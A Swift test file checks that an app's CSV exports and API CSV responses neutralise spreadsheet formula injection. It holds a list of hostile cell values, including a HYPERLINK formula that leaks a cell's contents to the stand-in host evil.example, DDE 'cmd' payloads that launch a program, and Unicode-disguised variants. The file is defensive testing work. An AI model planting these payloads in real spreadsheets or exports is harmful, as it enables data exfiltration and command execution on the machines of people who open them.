import Core
import Exports
import HTTP
import Records
import TestSupport
import Testing

@testable import App

/// Text that a spreadsheet would run as a formula when somebody opens a file that we made.
@Suite(.serialized) struct SpreadsheetFormulaTests {
    static let formulas = [
        "=1+1", "=HYPERLINK(\"https://evil.example?x=\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\"=1+1", "'=1+1", "=1+1\",=2+2", "a,=1+1", "a\n=1+1", "a;=1+1",
        "\u{FEFF}=1+1", "＝1+1", "＋1", "－1", "＠x",
        "\u{A0}=1+1", "\u{200B}=1",
    ]

    /// Cells of CSV text as a spreadsheet reads them, with one separator.
    private func cells(_ text: String, _ separator: Character) -> [String] {
        var (cells, cell, isQuoted): ([String], String, Bool) = ([], "", false)
        var last: Character?
        for character in text {
            if character == "\"" {
                if !isQuoted, last == "\"" { cell.append(character) }
                isQuoted.toggle()
            } else if !isQuoted, character == separator || character.isNewline {
                cells.append(cell)
                cell = ""
            } else {
                cell.append(character)
            }
            last = character
        }
        return cells + [cell]
    }

    /// Whether a spreadsheet runs the cell. Programs drop blanks and marks without width before they look, and take wide
    /// signs for narrow ones where people write so.
    private func runs(_ cell: String) -> Bool {
        let start = cell.drop { $0.isWhitespace || "\u{FEFF}\u{200B}".contains($0) }
        guard let first = start.first else { return false }
        return "=+-@＝＋－＠".contains(first) && !start.dropFirst().allSatisfy(\.isNumber)
    }

    @Test func a_file_that_we_write_runs_nothing() {
        let out = ByteWriter()
        let writer = CSVWriter(columns: Self.formulas.map { ExportColumn($0) }, zone: .utc)
        writer.writeHeader(to: out)
        writer.write(Self.formulas.map { .text($0) }, to: out)
        for kind in [ExportColumn.Kind.number, .phone, .date, .money, .boolean] {
            CSVWriter(columns: Self.formulas.map { ExportColumn($0, kind) }, zone: .utc)
                .write(Self.formulas.map { .text($0) }, to: out)
        }
        for cell in cells(out.string, ",") { #expect(!runs(cell), "\(cell.debugDescription)") }
    }

    @Test func what_programs_are_given_as_csv_runs_nothing_either() async throws {
        try await TestProgram.with { program in
            let key = try #require(program.keys[.owner])
            _ = try program.filled()
            // They stand in a pattern of format(), which is itself a quoted text.
            let quoted = Self.formulas.map {
                "$f$" + $0.replacing("'", with: "''").replacing("%", with: "%%") + "$f$"
            }.joined(separator: ", ")
            // Past all checks: what is kept today may have come in under the rules of another day.
            try program.test.run(
                """
                do $do$ declare c record; begin
                  set local session_replication_role = replica;
                  for c in select a.attrelid::regclass as t, quote_ident(a.attname) as col from pg_attribute a
                      join pg_class k on k.oid = a.attrelid and k.relkind in ('r', 'p') and k.relnamespace = 'public'::regnamespace
                    where a.attnum > 0 and not a.attisdropped and a.attgenerated = '' and a.atttypid = 'text'::regtype
                      and k.relname not in ('schema_migrations', 'users', 'organisations') loop
                    begin
                      execute format('update %s set %s = (array[\(quoted)])[1 + abs(hashtext(%L)) %% \(Self.formulas.count)] where %s = %L',
                        c.t, c.col, c.t::text || c.col, c.col, '\(SampleRows.marks[0])');
                    exception when others then null; end;
                  end loop;
                end $do$;
                """)
            var (wrong, seen): ([String], Int) = ([], 0)
            for resource in program.resources {
                let answer = try await program.ask(.get, "/api/v1/\(resource.name)", key: key, accept: "text/csv")
                guard answer.status == 200 else { continue }
                seen += 1
                for cell in cells(answer.text, ",") where runs(cell) && !cell.hasPrefix("[") {
                    wrong.append("\(resource.name): \(cell.debugDescription)")
                }
            }
            #expect(seen > 30)
            #expect(wrong.isEmpty, "\(wrong.joined(separator: "\n"))")
        }
    }
}
